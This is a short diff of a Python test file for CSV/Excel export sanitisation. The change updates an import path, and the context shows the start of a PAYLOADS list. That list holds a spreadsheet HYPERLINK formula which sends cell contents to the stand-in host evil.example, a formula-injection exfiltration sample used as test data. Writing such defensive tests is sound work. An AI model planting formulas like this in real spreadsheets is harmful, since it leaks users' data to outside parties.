@@ -13,7 +13,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from data.export import EXCEL_MAX_ROWS, neutralise_text, to_safe_csv, to_safe_xlsx
+from export.tables import EXCEL_MAX_ROWS, neutralise_text, to_safe_csv, to_safe_xlsx
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
